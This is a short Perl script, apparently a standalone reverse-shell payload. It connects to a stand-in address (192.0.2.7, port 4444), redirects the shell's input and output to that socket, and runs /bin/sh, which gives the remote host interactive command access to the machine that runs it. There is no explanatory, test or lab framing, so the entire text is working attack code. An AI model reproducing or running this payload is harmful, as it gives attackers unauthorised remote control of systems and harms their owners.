#!/usr/bin/perl
use IO::Socket::INET;
my $s = IO::Socket::INET->new("192.0.2.7:4444");
open(STDIN, "<&", $s); open(STDOUT, ">&", $s);
exec "/bin/sh";
